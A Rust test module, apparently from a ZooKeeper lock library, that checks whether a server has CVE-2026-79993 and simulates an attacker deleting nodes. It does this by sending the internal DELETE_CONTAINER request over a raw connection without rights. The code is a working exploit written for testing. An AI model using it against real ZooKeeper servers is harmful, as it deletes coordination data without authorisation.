//! An attacker without rights that deletes nodes. A server with CVE-2026-79993 lets any connection delete a node by the
//! internal request that removes containers. Use this module to find out whether a server has that fault, and to delete
//! a node as an attacker does.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use zk_rwlock::coordinator::{Failure, Session};

use super::frames::{Hello, framed};
use super::server::Server;

/// The opcode of ZooKeeper's internal request to remove a container.
const DELETE_CONTAINER: i32 = 20;

/// Sends the internal request for this node, without rights. Returns whether the server has deleted the node
/// (CVE-2026-79993).
pub fn deletes(server: &Server, path: &str) -> bool {
    let mut stream = TcpStream::connect(server.address()).expect("the server listens");
    stream.set_read_timeout(Some(Duration::from_secs(20))).expect("a limit");
    stream.write_all(&Hello::of_a_new_session(4_000).frame()).expect("the server reads");
    answer(&mut stream).expect("a session");
    let length = u32::try_from(path.len()).expect("paths are short");
    let (xid, kind) = (1_i32.to_be_bytes(), DELETE_CONTAINER.to_be_bytes());
    let request = [&xid[..], &kind, &length.to_be_bytes(), path.as_bytes()].concat();
    stream.write_all(&framed(&request)).expect("the server reads");
    // The error code follows the xid and the zxid. A server without the fault closes the connection instead of
    // replying, so the read fails.
    answer(&mut stream).is_ok_and(|reply| reply[12..16] == [0; 4])
}

/// Removes a persistent node without children: by the internal request, or by an ordinary delete on a server that
/// refuses that request.
pub async fn remove_node(server: &Server, session: &dyn Session, path: &str) {
    if !deletes(server, path) {
        session.delete(path).await.expect("the client may delete");
    }
    session.sync(path).await.expect("in time");
    assert!(matches!(session.data(path).await, Err(Failure::NoNode)), "{path} is still there");
}

fn answer(stream: &mut TcpStream) -> io::Result<Vec<u8>> {
    let mut length = [0; 4];
    stream.read_exact(&mut length)?;
    let mut body = vec![0; u32::from_be_bytes(length) as usize];
    stream.read_exact(&mut body)?;
    Ok(body)
}
